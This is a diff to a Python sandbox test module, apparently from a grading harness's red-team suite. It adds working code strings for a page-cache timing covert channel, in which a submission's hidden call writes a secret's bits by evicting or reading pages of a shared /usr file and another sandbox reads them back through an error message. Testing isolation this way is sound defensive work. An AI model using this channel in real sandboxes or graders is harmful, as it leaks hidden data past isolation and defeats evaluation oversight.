@@ -259,3 +259,102 @@ def survivors_named(name: str, wait_s: float = 3) -> list[int]:
         with suppress(ProcessLookupError):
             os.kill(pid, signal.SIGKILL)
     return survivors
+
+
+# --- the page cache as a covert channel (red-team rounds 2 and 4) ----------------------------
+# A big file under /usr is read through the page cache every sandbox shares: evicting a page
+# (posix_fadvise DONTNEED) or reading it writes one bit, timing a read reads it back. The code
+# strings are parts of a submission, formatted with ``path`` (see page_cache_file).
+COVERT_COMMON = '''
+import os, time
+FILE = {path!r}
+STEP, BITS, COPIES = 1 << 20, 8, 3
+PAGES = [STEP * (1 + i) for i in range(BITS * COPIES)]
+MARKERS = [STEP * (2 + BITS * COPIES + i) for i in range(COPIES)]
+
+def _open():
+    fd = os.open(FILE, os.O_RDONLY)
+    os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)  # one page per read, no read-ahead
+    return fd
+
+def _evict(fd, offset):
+    os.posix_fadvise(fd, offset, 4096, os.POSIX_FADV_DONTNEED)
+
+def _cold(fd, offset):
+    start = time.perf_counter_ns()
+    os.pread(fd, 1, offset)
+    return time.perf_counter_ns() - start > 25_000
+'''
+# Clear the markers at module load: nothing is sent yet.
+COVERT_CLEAR = '''
+_fd = _open()
+for _marker in MARKERS:
+    _evict(_fd, _marker)
+'''
+# At module load: the markers are warm only after a sender ran, so read the bits and raise them
+# (a learner's error message); else clear the markers for the sender to come.
+COVERT_READ = '''
+_fd = _open()
+if sum(_cold(_fd, marker) for marker in MARKERS) >= 2:
+    for _marker in MARKERS:  # nothing sent yet: clear the markers
+        _evict(_fd, _marker)
+else:
+    bits = [sum(not _cold(_fd, PAGES[i * COPIES + c]) for c in range(COPIES)) >= 2
+            for i in range(BITS)]
+    raise ValueError("read back " + str(sum(bit << i for i, bit in enumerate(bits))))
+'''
+# f(-1) is the public call; a hidden call f(secret) writes the secret's bits, then the markers.
+COVERT_SEND = '''
+def f(x):
+    if x < 0:
+        return 0  # the public call
+    fd = _open()
+    for i in range(BITS):
+        for copy in range(COPIES):
+            page = PAGES[i * COPIES + copy]
+            os.pread(fd, 1, page) if (x >> i) & 1 else _evict(fd, page)
+    for marker in MARKERS:
+        os.pread(fd, 1, marker)
+    os._exit(3)
+'''
+
+
+def _shared_cold_file() -> str | None:
+    """A big file under /usr whose pages this machine really evicts and reloads (else None)."""
+    candidates = []
+    for folder in ("/usr/lib/x86_64-linux-gnu", "/usr/lib/aarch64-linux-gnu", "/usr/lib/jvm",
+                   "/usr/share/package-lists", "/usr/lib/chromium", "/usr/lib/gcc"):
+        for here, _dirs, names in os.walk(folder):
+            for name in names:
+                path = os.path.join(here, name)
+                if os.path.isfile(path) and not os.path.islink(path) \
+                        and os.path.getsize(path) > 40 * 2**20:
+                    candidates.append(path)
+    for path in sorted(candidates):
+        fd = os.open(path, os.O_RDONLY)
+        try:
+            os.posix_fadvise(fd, 0, 0, os.POSIX_FADV_RANDOM)
+            cold = warm = 0
+            for offset in range(2**20, 10 * 2**20, 2**20):
+                os.posix_fadvise(fd, offset, 4096, os.POSIX_FADV_DONTNEED)
+                start = time.perf_counter_ns()
+                os.pread(fd, 1, offset)
+                cold += time.perf_counter_ns() - start > 25_000
+                start = time.perf_counter_ns()
+                os.pread(fd, 1, offset)
+                warm += time.perf_counter_ns() - start <= 25_000
+            if cold == warm == 9:
+                return path
+        finally:
+            os.close(fd)
+    return None
+
+
+def page_cache_file() -> str:
+    """The file for the covert channel; skips loudly where bubblewrap or such a file is missing."""
+    require_bwrap()
+    path = _shared_cold_file()
+    if path is None:
+        pytest.skip("no big file under /usr whose pages this machine evicts on request: the "
+                    "page-cache channel cannot be shown here, test NOT run")
+    return path
